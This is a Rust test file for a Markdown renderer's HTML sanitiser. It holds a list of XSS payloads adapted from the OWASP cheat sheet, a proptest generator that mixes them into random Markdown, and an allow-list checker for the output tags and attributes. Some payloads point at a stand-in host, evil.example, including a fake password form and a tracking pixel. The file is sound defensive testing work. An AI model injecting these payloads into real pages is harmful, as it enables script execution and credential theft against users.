//! Tests only: what an attacker would have a model write, and the check that none of it got through.

use proptest::prelude::*;

/// Collected from the OWASP XSS filter evasion cheat sheet and from past holes in Markdown renderers.
pub const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></p><style><!--</style><img src=x onerror=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<base href=//evil.example><form action=//evil.example><input name=password>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](<\u{1}javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](\\javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](https://a.example\"onmouseover=\"alert(1))",
    "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x\" onerror=\"alert(1)](/a.png)",
    "![x](/a.png\"onerror=\"alert(1))",
    "![x](https://evil.example/pixel.png)",
    "```\"onload=\"alert(1)\n<script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | </td></table><script>x</script> |",
    "# <img src=x onerror=alert(1)> {onclick=alert(1) .x}",
    "- <script>\n  alert(1)\n  </script>",
    "> <svg/onload=alert(1)>",
    "<!-- --><script>alert(1)</script>",
    "<!--\n--!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?x <script>alert(1)</script> ?>",
    "<br onclick=alert(1)>",
    "<br/onclick=alert(1)/>",
    "</code></pre></div><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "**<b onclick=alert(1)>x</b>**",
    "<button data-copy=code onclick=alert(1)>x</button>",
];

/// Texts made of what has a meaning in Markdown or in HTML.
pub fn markdown() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        4 => Just(" "), 6 => Just("\n"), 3 => Just("\n\n"), 4 => Just("word"),
        1 => proptest::sample::select(&["# ", "### ", "- ", "* ", "1. ", "2) ", "> ", "    ", "  ", "\t", "```", "~~~",
            "```rust\n", "`", "**", "*", "_", "~~", "---\n", "==", "|", "| a | b |\n|---|:-:|\n", "- [x] ", "\\", "&",
            "&#106;", "&Tab;", "&lt;"][..]),
        1 => proptest::sample::select(&["[", "]", "(", ")", "](", "![", "]: ", "<", ">", "\"", "'", "</", "/>", "<!--",
            "-->", "<a href=", "<div>", "</div>\n", "<script>", "</script>", "<style>", "<svg ", "onload=",
            " onclick=\"x\"", "javascript:", "JAVASCRIPT:", "data:", "https://a.example", "//b.example", "/own.png",
            "é🦀", "\u{0}", "\u{feff}"][..]),
        1 => proptest::sample::select(&["$", "$$", "\\(", "\\)", "\\[", "\\]", "\\begin{a}", "\\end{a}", "x^2", "\\frac{1}{2}",
            "[^a]", "[^a]: ", "[1]", "：", "请", "「", "」", "```markdown\n", "(月)", "50%", "\u{5d0}"][..]),
        1 => proptest::sample::select(ATTACKS),
    ];
    proptest::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
}

/// Panics when `html` holds a tag or an attribute that none of our writers makes.
///
/// Reads the HTML as a browser would: everything that we write ourselves has its attributes in double quotes and
/// everything from outside is escaped, so a `<` always begins a tag and a `"` never stands inside a value.
pub fn assert_safe(html: &str) {
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let end = rest.find('>').unwrap_or_else(|| panic!("an open tag in {html}"));
        let tag = rest[..end].trim_start_matches('/');
        let name = tag.split([' ', '/']).next().unwrap_or_default();
        assert!(TAGS.contains(&name) || MATH_TAGS.contains(&name), "<{tag}> in {html}");
        let mut attributes = &tag[name.len()..];
        while let Some((before, after)) = attributes.split_once("=\"") {
            let (value, after) = after.split_once('"').unwrap_or_else(|| panic!("an open value in {html}"));
            assert_attribute(before.trim(), value, html);
            attributes = after;
        }
        assert_words(attributes.trim(), html);
        rest = &rest[end + 1..];
    }
}

const TAGS: &[&str] = &[
    "a",
    "blockquote",
    "br",
    "button",
    "annotation",
    "code",
    "del",
    "div",
    "em",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "img",
    "input",
    "li",
    "ol",
    "p",
    "pre",
    "span",
    "semantics",
    "strong",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];

/// Of formulas: nothing that leads anywhere or holds HTML.
const MATH_TAGS: &[&str] = &[
    "math",
    "mfrac",
    "mi",
    "mmultiscripts",
    "mn",
    "mo",
    "mover",
    "mpadded",
    "mphantom",
    "mprescripts",
    "mroot",
    "mrow",
    "mspace",
    "msqrt",
    "mstyle",
    "msub",
    "msubsup",
    "msup",
    "mtable",
    "mtd",
    "mtext",
    "mtr",
    "munder",
    "munderover",
];

fn assert_attribute(words: &str, value: &str, html: &str) {
    let (flags, name) = words.rsplit_once(' ').unwrap_or(("", words));
    assert_words(flags, html);
    let good = match name {
        "href" => {
            value.strip_prefix("/images/").is_some_and(|id| id.len() == 36)
                || ["http://", "https://", "mailto:"]
                    .iter()
                    .any(|scheme| value.get(..scheme.len()).is_some_and(|start| start.eq_ignore_ascii_case(scheme)))
        }
        "src" => value.starts_with("/api/images/"),
        "dir" => matches!(value, "auto" | "ltr"),
        // Of formulas: words and numbers.
        "accent" | "accentunder" | "columnspan" | "depth" | "display" | "displaystyle" | "encoding" | "fence"
        | "form" | "height" | "largeop" | "linethickness" | "lspace" | "mathvariant" | "maxsize" | "minsize"
        | "movablelimits" | "rspace" | "scriptlevel" | "stretchy" | "symmetric" | "width" => {
            value.bytes().all(|byte| byte.is_ascii_alphanumeric() || b".-%/".contains(&byte))
        }
        "alt" | "aria-label" | "class" | "data-copy" | "loading" | "rel" | "scope" | "start" | "tabindex"
        | "target" | "type" => true,
        // How HTML is written when an attribute has no value.
        "checked" | "disabled" => value.is_empty(),
        _ => false,
    };
    assert!(good, "{name}={value} in {html}");
}

fn assert_words(flags: &str, html: &str) {
    assert!(flags.split_whitespace().all(|flag| matches!(flag, "checked" | "disabled")), "{flags} in {html}");
}
